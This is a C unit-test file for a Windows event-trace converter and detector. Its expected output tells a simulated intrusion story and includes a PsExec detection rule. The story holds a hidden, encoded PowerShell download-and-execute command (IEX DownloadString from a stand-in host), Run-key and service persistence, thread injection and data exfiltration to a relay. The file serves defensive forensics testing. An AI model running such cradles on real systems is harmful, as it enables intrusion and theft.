// Activities: that the table holds together and names fields that events have, and what the incident's story shows.
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <cjson/cJSON.h>
#include <stdlib.h>
#include <string.h>

#include "activity/activity.h"
#include "base/known_guids.h"
#include "etl_text.h"
#include "program.h"

#define RUN(p, ...) program_run((p), (const char *const[]){__VA_ARGS__, NULL})

// ---------------------------------------------------------------------------------------------- the table

static bool is_field(const char *name, size_t len)
{
    static const char *const OTHERS[] = {"action", "ipv6"};
    for (u32 i = 0; i < ACTIVITY_FIELDS; i++)
        if (strlen(activity_fields[i].name) == len && memcmp(activity_fields[i].name, name, len) == 0)
            return true;
    for (size_t i = 0; i < COUNT_OF(OTHERS); i++)
        if (strlen(OTHERS[i]) == len && memcmp(OTHERS[i], name, len) == 0)
            return true;
    return false;
}

static void sentences_name_fields(void **state)
{
    (void)state;
    for (u32 i = 0; i < ACTIVITY_KINDS_TOLD; i++) {
        int open = 0;
        for (const char *at = activity_kinds[i].sentence; *at; at++) {
            open += *at == '[' ? 1 : *at == ']' ? -1 : 0;
            assert_in_range(open, 0, 1);
            if (*at == '{' && !is_field(at + 1, strcspn(at + 1, "}")))
                fail_msg("%s: %s", activity_kinds[i].name, at);
        }
        assert_int_equal(open, 0);
    }
}

static void every_kind_has_events(void **state)
{
    (void)state;
    bool has[ACTIVITY_KINDS_TOLD] = {false};
    for (u32 i = 0; i < activity_source_count; i++)
        has[activity_sources[i].kind] = true;
    for (u32 i = 0; i < ACTIVITY_KINDS_TOLD; i++)
        assert_true(has[i]);
}

// The field of a payload that a source names; 0: it names none.
static size_t payload_field(const char *source, const char **name)
{
    if (*source == '\'')
        return 0;
    if (*source == '@') {
        *name = strpbrk(source, "+? ");
        if (!*name || **name == ' ')
            return 0;
        (*name)++;
    } else {
        *name = source;
    }
    return strcspn(*name, " :>");
}

static void check_fields(const activity_source *s, const char *shown, bool has_event)
{
    for (const char *at = s->fields; *at; at += strcspn(at, " "), at += strspn(at, " ")) {
        size_t len = strcspn(at, "=");
        const char *name = NULL;
        if (!is_field(at, len))
            fail_msg("there is no field %.*s", (int)len, at);
        size_t name_len = payload_field(at + len + 1, &name);
        char wanted[80];
        snprintf(wanted, sizeof(wanted), "    %.*s ", (int)name_len, name);
        if (name_len && has_event && !strstr(shown, wanted))
            fail_msg("event %u (%s): no field %.*s in\n%s", s->first, activity_kinds[s->kind].name, (int)name_len, name,
                     shown);
    }
}

// Sysmon and PowerShell 7 describe themselves only where they are installed.
static bool is_in_core(const guid *provider)
{
    return !guid_equal(provider, &(guid)GUID_SYSMON) && !guid_equal(provider, &(guid)GUID_POWERSHELL_CORE);
}

// Fields of providers' events are those of the built-in core; the kernel's, and those of events with names alone, are
// checked by traces.
static void fields_are_those_of_events(void **state)
{
    program *p = *state;
    for (u32 i = 0; i < activity_source_count; i++) {
        const activity_source *s = &activity_sources[i];
        char id[GUID_TEXT], number[8];
        bool asks = !s->classic && !s->name && is_in_core(&s->provider);
        guid_to_text(&s->provider, id);
        snprintf(number, sizeof(number), "%u", s->first);
        if (asks)
            assert_int_equal(RUN(p, "schemas", "show", "--cache", "none", id, number), 0);
        check_fields(s, (const char *)p->out.bytes, asks);
    }
}

static void sources_are_put_in_place(void **state)
{
    (void)state;
    arena a = {0};
    const activity_source named = {.fields = "process=ProcessID path=FileName:path"};
    const activity_source own = {.fields = "key=@key value_name=KeyName"};
    assert_string_equal(
        activity_expand(&a, "EventID='1 Image=.process>image Path=.path Gone=.url Rest=Field *", &named),
        "EventID='1 Image=ProcessID>image Path=FileName:path Rest=Field *");
    assert_string_equal(activity_expand(&a, "Image=.process>image Target=.target>id Object=@key+.value_name", &own),
                        "Image=@image Object=@key+KeyName");
    assert_string_equal(activity_expand(&a, "Object=@key+.value_name", &named), "Object=@key");
    arena_free(&a);
}

// ---------------------------------------------------------------------------------------------- the incident

// What samples/incident.case tells, as sentences.
static const char *const STORY[] = {
    "System (4) is running",
    "lsass.exe (712) is running: C:\\Windows\\system32\\lsass.exe",
    "services.exe (700) is running: C:\\Windows\\system32\\services.exe",
    "svchost.exe (1384) is running: C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
    "svchost.exe (1520) is running: C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "services.exe (700) has a thread at 0x7ff6c1230000",
    "lsass.exe (712) has loaded C:\\Windows\\System32\\ntdll.dll",
    "CORP\\mara logged on, type 10, from 198.51.100.77",
    "CORP\\mara logged on to a session, from 198.51.100.77",
    "explorer.exe (5120) started: C:\\Windows\\Explorer.EXE",
    "explorer.exe (5120) started a thread at 0x7ff6c1230000",
    "explorer.exe (5120) loaded C:\\Windows\\explorer.exe",
    "explorer.exe (5120) begins the autostarts of Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "explorer.exe (5120) starts \"C:\\Program Files\\Sync\\sync.exe\" /background",
    "sync.exe (6200) started: \"C:\\Program Files\\Sync\\sync.exe\" /background",
    "explorer.exe (5120) started \"C:\\Program Files\\Sync\\sync.exe\" /background",
    "sync.exe (6200) asked for api.sync.example",
    "sync.exe (6200) asked for api.sync.example: 192.0.2.30",
    "WINWORD.EXE (7044) started: \"C:\\Program Files\\Office\\WINWORD.EXE\" /n "
    "\"C:\\Users\\mara\\Downloads\\invoice.docm\"",
    "WINWORD.EXE (7044) started a thread at 0x7ff6c1230000",
    "WINWORD.EXE (7044) loaded C:\\Program Files\\Office\\WINWORD.EXE",
    "powershell.exe (7420) started: powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
    "AGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBzAHkAbgBjAC4AZQB4AGEAbQBwAGwAZQAvAHUALgBwAHMAMQAnACkA",
    "powershell.exe (7420) started: powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
    "AGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBzAHkAbgBjAC4AZQB4AGEAbQBwAGwAZQAvAHUALgBwAHMAMQAnACkA",
    "powershell.exe (7420) started a thread at 0x7ff6c1230000",
    "powershell.exe (7420) loaded C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "powershell.exe (7420) loaded C:\\Windows\\System32\\amsi.dll",
    "powershell.exe (7420) ran the script block: IEX (New-Object "
    "Net.WebClient).DownloadString('http://cdn-sync.example/u.ps1')",
    "powershell.exe (7420) asked for cdn-sync.example",
    "powershell.exe (7420) asked for cdn-sync.example: 203.0.113.66",
    "powershell.exe (7420) connected to 203.0.113.66:80 over tcp",
    "powershell.exe (7420) sent 214 bytes to 203.0.113.66:80 over tcp",
    "powershell.exe (7420) received 48412 bytes from 203.0.113.66:80 over tcp",
    "powershell.exe (7420) created C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
    "powershell.exe (7420) wrote 32768 bytes to C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
    "powershell.exe (7420) wrote 15644 bytes to C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
    "powershell.exe (7420) created C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
    "powershell.exe (7420) wrote 73728 bytes to C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
    "powershell.exe (7420) opened C:\\Windows\\System32\\drivers\\etc\\hosts",
    "updater.exe (7640) started: C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe --install",
    "updater.exe (7640) started a thread at 0x7ff6c1230000",
    "updater.exe (7640) loaded C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
    "updater.exe (7640) set Updater in HKU\\S-1-5-21-2005221396-1177238915-839522115-1107\\SOFTWARE\\Microsoft\\"
    "Windows\\CurrentVersion\\Run to C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
    "service SyncUpdater was installed: C:\\Windows\\Temp\\svcupd.exe as LocalSystem",
    "service SyncUpdater was installed: C:\\Windows\\Temp\\svcupd.exe as LocalSystem",
    "task \\Sync\\UpdaterCheck was registered by CORP\\mara",
    "updater.exe (7640) started a thread in explorer.exe (5120) at 0x1f0000",
    "updater.exe (7640) asked for gate.sync-relay.example",
    "updater.exe (7640) asked for gate.sync-relay.example (status 9003)",
    "updater.exe (7640) asked for x7q2.sync-relay.example",
    "updater.exe (7640) asked for x7q2.sync-relay.example: 203.0.113.80",
    "updater.exe (7640) connected to 203.0.113.80:443 over tcp",
    "updater.exe (7640) sent 1830 bytes to 203.0.113.80:443 over tcp",
    "updater.exe (7640) sent 262144 bytes to 203.0.113.80:443 over tcp",
    "updater.exe (7640) received 512 bytes from 203.0.113.80:443 over tcp",
    "updater.exe (7640) disconnected from 203.0.113.80:443 over tcp",
    "powershell.exe (7420) deleted C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
    "powershell.exe (7420) ended",
    "sync.exe (6200) asked for api.sync.example",
    "sync.exe (6200) asked for api.sync.example: 192.0.2.30",
    "CORP\\mara logged off",
};

static bool shows_nothing(const char *message)
{
    return strncmp(message, "MSNT_SystemTrace/", strlen("MSNT_SystemTrace/")) == 0 ||
           strncmp(message, "KernelTraceControl/", strlen("KernelTraceControl/")) == 0;
}

static void incident_is_told(void **state)
{
    program *p = *state;
    size_t at = 0;
    assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "-f", "timesketch", "samples/incident.etl"), 0);
    for (char *line = (char *)p->out.bytes, *end; (end = strchr(line, '\n')) != NULL; line = end + 1) {
        *end = 0;
        cJSON *o = cJSON_Parse(line);
        const char *message = cJSON_GetStringValue(cJSON_GetObjectItem(o, "message"));
        assert_non_null(message);
        if (!shows_nothing(message)) {
            assert_in_range(at, 0, COUNT_OF(STORY) - 1);
            assert_string_equal(message, STORY[at++]);
        }
        cJSON_Delete(o);
    }
    assert_int_equal(at, COUNT_OF(STORY));
}

// Where the sentence stands for the record, its own message is there too.
static void messages_are_kept(void **state)
{
    program *p = *state;
    assert_int_equal(
        RUN(p, "convert", "-q", "--cache", "none", "-f", "timesketch", "--where", "event_id = 3008", "samples/dns.etl"),
        0);
    assert_non_null(
        strstr((char *)p->out.bytes,
               "{\"message\":\"browser.exe (7300) asked for static.example.com: cdn.example.net, 192.0.2.77\""));
    assert_non_null(strstr((char *)p->out.bytes, ",\"event_message\":\"Look-up of www.example.com, type 1, ended"));
}

// Paths as events tell them, where nothing maps volumes: the machine ran Windows from HarddiskVolume3.
static const char PATHS[] =
    "trace start=2024-05-01T10:00:00Z\n"
    "system hook=0x1403 version=3 time=+1us pid=100 tid=101 payload ptr:0x7ffa10000000 ptr:0x1000 u32:100,1,1 u8:12,1 u16:0"
    " ptr:0x7ffa10000000 u32:0,0,0,0 wstr:\"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\ntdll.dll\"\n"
#define OPENED(time, path)                                                                                             \
    "system hook=0x0440 version=3 time=+" time                                                                         \
    "us pid=100 tid=101 payload ptr:1 ptr:2 u32:101,0x05000000,0,0 wstr:\"" path "\"\n"
    OPENED("10", "\\\\Device\\\\HarddiskVolume3\\\\x.txt") OPENED("20", "\\\\Device\\\\HarddiskVolume30\\\\x.txt")
        OPENED("30", "\\\\SystemRoot\\\\x.txt") OPENED("40", "\\\\??\\\\D:\\\\x.txt")
            OPENED("50", "\\\\Device\\\\Mup\\\\server\\\\share\\\\x.txt")
                OPENED("60", "\\\\??\\\\C:\\\\PROGRA~2\\\\x.txt") OPENED("70", "\\\\Windows\\\\x.txt")
                    OPENED("80", "\\\\Device\\\\HarddiskVolume3");

// The sentences of the records that `where` holds for, one after the other.
static void told_are(program *p, const char *text, const char *where, const char *const *wanted, size_t count)
{
    outbuf file = {0};
    error e = {0};
    char path[512];
    if (!etl_text_build(text, strlen(text), &file, &e))
        fail_msg("%s", e.message);
    bytes_save(program_path(p, "told.etl", path), file.bytes, file.len);
    outbuf_free(&file);
    assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "-f", "timesketch", "--where", where, path), 0);
    assert_int_equal(program_lines(&p->out), count);
    char *line = (char *)p->out.bytes;
    for (size_t i = 0; i < count; i++) {
        char *end = strchr(line, '\n');
        *end = 0;
        cJSON *o = cJSON_Parse(line);
        assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItem(o, "message")), wanted[i]);
        cJSON_Delete(o);
        line = end + 1;
    }
}

static void paths_are_dos_paths(void **state)
{
#define CREATED(path) "process (100) created " path
    static const char *const WANTED[] = {CREATED("C:\\x.txt"),
                                         CREATED("\\Device\\HarddiskVolume30\\x.txt"),
                                         CREATED("C:\\Windows\\x.txt"),
                                         CREATED("D:\\x.txt"),
                                         CREATED("\\\\server\\share\\x.txt"),
                                         CREATED("C:\\Program Files (x86)\\x.txt"),
                                         CREATED("C:\\Windows\\x.txt"),
                                         CREATED("\\Device\\HarddiskVolume3")};
    told_are(*state, PATHS, "opcode = 64", WANTED, COUNT_OF(WANTED));
}

// What was tried in vain, numbers that events show in hexadecimal, texts that are bytes, numbers that stand for words.
#define OF(provider, id, payload)                                                                                      \
    "event provider={" provider "} id=" id " level=4 pid=500 tid=504 payload " payload "\n"
#define REGISTRY "70eb4f03-c1de-4f73-a051-33d13d5413bd"
#define KEY(status, disposition, name)                                                                                 \
    OF(REGISTRY, "1", "ptr:16 ptr:17 u32:" status "," disposition " wstr:\"\\\\REGISTRY\\\\MACHINE\" wstr:" name)
#define VALUE(status, type, size, data)                                                                                \
    OF(REGISTRY, "5",                                                                                                  \
       "ptr:16 u32:" status "," type "," size " wstr:\"\\\\REGISTRY\\\\MACHINE\\\\K\" wstr:V u16:" size " " data       \
       " u32:0,0 u16:0")
#define SCANNED(result, size, content)                                                                                 \
    OF("2a576b87-09a7-520e-c21a-4942f0271d67", "1101",                                                                 \
       "ptr:16 u8:1 u32:" result " wstr:PowerShell wstr:x.ps1 u32:" size "," size " " content " zeros:32 bool:0")
#define STARTED                                                                                                        \
    "trace build=19045\n"                                                                                              \
    "system hook=0x0301 version=4 pid=4 tid=8 payload ptr:16 u32:500,4,0 i32:259 ptr:16 u32:0 wbemsid:S-1-5-18 "       \
    "astr:a.exe wstr:\"\" wstr:\"\" wstr:\"\"\n"
static const char ODD[] = STARTED
    "system hook=0x061c version=2 pid=4 tid=0 payload u32:500,0 ipv6:2001:db8::1 ipv6:fe80::1 port:443 port:50000 "
    "u16:1460,1,0,1 u32:65535 i16:8,8 u32:0 ptr:0\n"
    "system hook=0x061a version=2 pid=4 tid=0 payload u32:0xffffffff,100 ipv6:2001:db8::1 ipv6:fe80::1 port:443 "
    "port:50000 u32:0,0,0 ptr:0\n"
    // clang-format off
    KEY("0", "1", "New") KEY("0", "2", "Old") KEY("0xc0000022", "0", "Denied")
    VALUE("0xc0000022", "4", "4", "hex:05000000") VALUE("0", "4", "4", "hex:07000000")
    OF(REGISTRY, "5", "ptr:99 u32:0,1,4 wstr:\"\" wstr:V u16:0 u32:0,0 u16:0")
    OF(REGISTRY, "6", "ptr:16 u32:0 wstr:\"\\\\REGISTRY\\\\MACHINE\\\\K\" wstr:\"\"")
    VALUE("0", "6", "6", "wchars:abc") VALUE("0xc0000022", "4", "4", "hex:09000000")
    SCANNED("32768", "12", "wchars:\"IEX $a\"") SCANNED("0", "4", "wchars:ls") SCANNED("0", "6", "chars:\"IEX $b\"")
    SCANNED("0", "4", "hex:00ff0102")
    // clang-format on
    "system hook=0x0302 version=4 pid=500 tid=504 payload ptr:16 u32:500,4,0 i32:-1073741510 ptr:16 u32:0 "
    "wbemsid:S-1-5-18 astr:a.exe wstr:\"\" wstr:\"\" wstr:\"\"\n";

// clang-format off
static const char PROVIDERS[] =
    STARTED
    OF("dd5ef90a-6398-47a4-ad34-4dcecdef795f", "2", "ptr:16 u32:4 wstr:\"http://x/\"")
    OF("dd5ef90a-6398-47a4-ad34-4dcecdef795f", "2", "ptr:16 u32:99 wstr:\"http://x/\"")
    OF("555908d1-a6d7-4695-8e1e-26931d2012f4", "7036", "wstr:Spooler wstr:running")
    OF("1c95126e-7eea-49a9-a3fe-a378b03ddb4d", "3020", "wstr:x.example u32:1,0,0,0 wstr:192.0.2.1")
    OF("edd08927-9cc4-4e65-b970-c2560fb5c289", "16 version=1",
       "u64:0 ptr:16 ptr:17 ptr:18 u32:504,4096,0,0")
    OF("50b3e73c-9370-461d-bb9f-26f32d68887d", "17", "ptr:1 u64:1 ptr:1 u64:1 astr:GET wstr:\"http://x/\" u16:1,1 u32:0x80072ee7")
    OF("edd08927-9cc4-4e65-b970-c2560fb5c289", "12 version=1", "ptr:16 ptr:17 u32:504,0x03000021,0,0 wstr:\"\\\\there\"")
    OF("edd08927-9cc4-4e65-b970-c2560fb5c289", "12 version=1", "ptr:16 ptr:17 u32:504,0x02000021,0,0 wstr:\"\\\\new\"")
    OF("edd08927-9cc4-4e65-b970-c2560fb5c289", "12 version=1", "ptr:16 ptr:17 u32:504,0x01000021,0,0 wstr:\"\\\\old\"")
    OF("a7975c8f-ac13-49f1-87da-5a984a4ab417", "169", "wstr:\"D\\\\u\" wstr:NTLM")
    OF("a7975c8f-ac13-49f1-87da-5a984a4ab417", "82", "wstr:Get wstr:\"http://x/config\"")
    OF("a0c1853b-5c40-4b15-8766-3cf1c58f985a", "7937 version=1", "wstr:\"\" wstr:\"\" wstr:\"Command x is Started.\"");
// clang-format on

static const char *const ODD_TOLD[] = {
    "a.exe (500) started",
    "a.exe (500) connected to [2001:db8::1]:443 over tcp",
    "somebody sent 100 bytes to [2001:db8::1]:443 over tcp",
    "a.exe (500) created the key HKLM\\New",
    "a.exe (500) opened HKLM\\Old",
    "a.exe (500) created the key HKLM\\Denied (status 0xC0000022)",
    "a.exe (500) set V in HKLM\\K to DWORD (0x00000005) (status 0xC0000022)",
    "a.exe (500) set V in HKLM\\K to DWORD (0x00000007)",
    "a.exe (500) set V",
    "a.exe (500) deleted (Default) in HKLM\\K",
    "a.exe (500) set V in HKLM\\K to abc",
    "a.exe (500) set V in HKLM\\K to DWORD (0x00000009) (status 0xC0000022)",
    "a.exe (500) had scanned x.ps1: IEX $a (result 32768)",
    "a.exe (500) had scanned x.ps1: ls",
    "a.exe (500) had scanned x.ps1: IEX $b",
    "a.exe (500) had scanned x.ps1: 0x00FF0102",
    "a.exe (500) ended with status 0xC000013A",
};

static const char *const PROVIDERS_TOLD[] = {
    "a.exe (500) started",
    "a.exe (500) received GET http://x/",
    "a.exe (500) received 99 http://x/",
    "service Spooler was changed in state to running",
    "a.exe (500) was answered for x.example: 192.0.2.1",
    "a.exe (500) wrote 4096 bytes",
    "a.exe (500) prepared GET http://x/: status 0x80072EE7",
    "a.exe (500) opened or created \\there",
    "a.exe (500) created \\new",
    "a.exe (500) opened \\old",
    "D\\u was authenticated by WinRM",
    "a.exe (500) runs the operation Get in http://x/config",
    "a.exe (500) tells of a pipeline: Command x is Started.",
};

// A process's first thread is started by its creator, and the kernel starts its own threads in whoever called it:
// neither is a thread in another process.
#define THREAD(by, of, id)                                                                                             \
    "system hook=0x0501 version=3 pid=" by " tid=8 payload u32:" of "," id                                             \
    " ptr:1 ptr:1 ptr:1 ptr:1 ptr:15 ptr:0x1000 ptr:1 u32:0 u8:8,5,2,0\n"
static const char THREADS[] =
    "trace build=19045\n"
    "system hook=0x0301 version=4 pid=500 tid=8 payload ptr:16 u32:600,500,0 i32:259 ptr:16 u32:0 wbemsid:S-1-5-18 "
    "astr:child.exe wstr:\"\" wstr:\"\" wstr:\"\"\n" // clang-format off
    THREAD("500", "600", "604") THREAD("500", "600", "608") THREAD("500", "4", "612") THREAD("500", "700", "704")
    // Created by a clock that is ahead of the events'; created long before.
    OF("22fb2cd6-0e7b-422b-a0c7-2fad1fd0e716", "1 time=+1ms",
       "u32:800 filetime:2024-05-01T10:00:00.009 u32:500,0 wstr:\"\\\\late.exe\"")
    OF("22fb2cd6-0e7b-422b-a0c7-2fad1fd0e716", "15",
       "u32:900 filetime:2024-05-01T09:59:00 u32:500,0,0 wstr:\"\\\\old.exe\" u32:0,0 wstr:\"\" wstr:\"\"")
    THREAD("500", "800", "804") THREAD("500", "900", "904");
// clang-format on

static void threads_in_others_are_told(void **state)
{
    static const char *const WANTED[] = {
        "child.exe (600) started a thread at 0x1000", "process (500) started a thread in child.exe (600) at 0x1000",
        "System (4) started a thread at 0x1000",      "process (500) started a thread in process (700) at 0x1000",
        "late.exe (800) started a thread at 0x1000",  "process (500) started a thread in old.exe (900) at 0x1000"};
    told_are(*state, THREADS, "event_name = 'Thread/Start'", WANTED, COUNT_OF(WANTED));
}

static void odd_values_are_told(void **state)
{
    static const char WHERE[] = "event_name is null or event_name != 'EventTrace/Header'";
    told_are(*state, ODD, WHERE, ODD_TOLD, COUNT_OF(ODD_TOLD));
    told_are(*state, PROVIDERS, WHERE, PROVIDERS_TOLD, COUNT_OF(PROVIDERS_TOLD));
}

// Of samples/incident.case, by hand: who looked names up, and whose children they were.
static void expressions_know_processes(void **state)
{
    static const struct {
        const char *where;
        u32 records;
    } WANTED[] = {
        {"event_id = 3008 and process.path = 'c:\\users\\mara\\appdata\\roaming\\sync\\updater.exe'", 2},
        {"event_id = 3008 and process.parent.path like '%\\WINWORD.EXE'", 1},
        {"event_id = 3008 and process.command_line like '%/background'", 2},
        {"event_id = 3008 and process.parent.command_line like '%-EncodedCommand%'", 2},
        {"event_id = 3008 and process.parent = 7420 and process.name = 'updater.exe'", 2},
        {"event_id = 3008 and process.parent = 7421", 0},
        {"event_id = 7045 and process.user = 'NT AUTHORITY\\SYSTEM' and process.id = 700", 1},
        {"event_id in (4624, 7045) and process.path = 'services.exe'", 1}, // no image event tells more
    };
    program *p = *state;
    for (size_t i = 0; i < COUNT_OF(WANTED); i++) {
        assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "--where", WANTED[i].where, "samples/incident.etl"),
                         0);
        if (program_lines(&p->out) != WANTED[i].records)
            fail_msg("%s: %u records", WANTED[i].where, program_lines(&p->out));
    }
    assert_int_equal(RUN(p, "convert", "--where", "process.colour = 1", "samples/incident.etl"), 2);
    assert_non_null(strstr((char *)p->err.bytes, "processes have path, command_line"));
}

// A program under another name, as trace merging notes what its file says of itself. The second has no version
// resource.
static const char RENAMED[] =
    "trace start=2024-05-01T10:00:00Z\n"
    "system hook=0x1403 version=3 time=+1us pid=100 tid=101 payload ptr:0x7ffa10000000 ptr:0x1000 u32:100,1,1 u8:12,1 u16:0"
    " ptr:0x7ffa10000000 u32:0,0,0,0 wstr:\"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\ntdll.dll\"\n"
#define PROCESS(time, pid, base, name)                                                                                 \
    "system hook=0x0301 version=4 time=+" time "us pid=4 tid=8 payload ptr:0xffffa00c00004000 u32:" pid                \
    ",4,0 i32:259 ptr:0x40000 u32:0 wbemsid:S-1-5-18 astr:" name " wstr:\"" name " -x\" wstr:\"\" wstr:\"\"\n"         \
    "system hook=0x140a version=3 time=+" time "us pid=" pid " tid=9 payload ptr:" base " ptr:0x5000 u32:" pid         \
    ",7,0x65f1d7c2 u8:12,1 u16:0 ptr:" base " u32:0,0,0,0 wstr:\"\\\\Device\\\\HarddiskVolume3\\\\Temp\\\\" name       \
    "\"\n"
    PROCESS("10", "200", "0x7ff600000000", "svc.exe") PROCESS("20", "204", "0x7ff700000000", "tool.exe")
#define IMAGE_ID "full guid={b3e675d7-2554-4f18-830b-2762732560de} pid=100 tid=101 time=+30us opcode="
        IMAGE_ID
    "0 version=2 payload ptr:0x7ff600000000 ptr:0x5000 u32:200,0x65f1d7c2 wstr:psexec.c\n" IMAGE_ID
    "0 version=2 payload ptr:0x7ff700000000 ptr:0x6000 u32:204,0x65f1d7c3 wstr:tool-original.exe\n" IMAGE_ID
    "64 version=0 payload u32:0x5000,0x65f1d7c2 wstr:psexec.c wstr:\"Execute processes remotely\" wstr:2.2"
    " wstr:2.2 wstr:\"\" wstr:\"Sysinternals PsExec\" wstr:\"Sysinternals\" wstr:2.2 wstr:\"\" wstr:\"\"\n"
    "event provider={11111111-2222-3333-4444-555555555555} id=7 time=+40us pid=200 tid=9 payload u32:1\n"
    "event provider={11111111-2222-3333-4444-555555555555} id=7 time=+50us pid=204 tid=9 payload u32:1\n";

static void programs_have_original_names(void **state)
{
    static const char *const FITS[] = {"process.original_name = 'psexec.c'", "process.description like 'execute%'",
                                       "process.version = '2.2'", "process.product = 'sysinternals psexec'",
                                       "process.company = 'Sysinternals'"};
    static const char RULE[] = "title: PsExec\nlogsource:\n  category: process_creation\ndetection:\n  s:\n"
                               "    OriginalFileName: psexec.c\n    Company: Sysinternals\n  condition: s\n",
                      LOADED[] = "title: PsExec\nlogsource:\n  category: image_load\ndetection:\n  s:\n"
                                 "    OriginalFileName: psexec.c\n    FileVersion: '2.2'\n"
                                 "    Description|contains: remotely\n  condition: s\n";
    program *p = *state;
    outbuf file = {0};
    error e = {0};
    char path[512], where[128], rule[512];
    if (!etl_text_build(RENAMED, strlen(RENAMED), &file, &e))
        fail_msg("%s", e.message);
    bytes_save(program_path(p, "renamed.etl", path), file.bytes, file.len);
    outbuf_free(&file);
    for (size_t i = 0; i < COUNT_OF(FITS); i++) {
        snprintf(where, sizeof(where), "event_id = 7 and %s", FITS[i]);
        assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "--where", where, path), 0);
        assert_int_equal(program_lines(&p->out), 1);
        assert_non_null(strstr((char *)p->out.bytes, "\"process_id\":200,"));
    }
    assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "--where",
                         "event_id = 7 and process.original_name = 'tool-original.exe' and process.company is null",
                         path),
                     0);
    assert_int_equal(program_lines(&p->out), 1);
    bytes_save(program_path(p, "rule.yml", rule), RULE, strlen(RULE));
    assert_int_equal(RUN(p, "detect", "--cache", "none", "--rules", rule, path), 0);
    assert_non_null(
        strstr((char *)p->out.bytes, "| OriginalFileName=psexec.c Company=Sysinternals | record 3 of renamed.etl"));
    assert_int_equal(program_lines(&p->out), 1);
    // The load of that image tells the same of what is loaded.
    bytes_save(program_path(p, "rule.yml", rule), LOADED, strlen(LOADED));
    assert_int_equal(RUN(p, "detect", "--cache", "none", "--rules", rule, path), 0);
    assert_non_null(strstr((char *)p->out.bytes, "| OriginalFileName=psexec.c FileVersion=2.2 "
                                                 "Description=Execute processes remotely | record 4 of renamed.etl"));
    assert_int_equal(program_lines(&p->out), 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(sentences_name_fields),
        cmocka_unit_test(every_kind_has_events),
        cmocka_unit_test(sources_are_put_in_place),
        cmocka_unit_test_setup_teardown(fields_are_those_of_events, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(incident_is_told, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(paths_are_dos_paths, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(odd_values_are_told, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(threads_in_others_are_told, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(expressions_know_processes, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(messages_are_kept, program_setup, program_teardown),
        cmocka_unit_test_setup_teardown(programs_have_original_names, program_setup, program_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
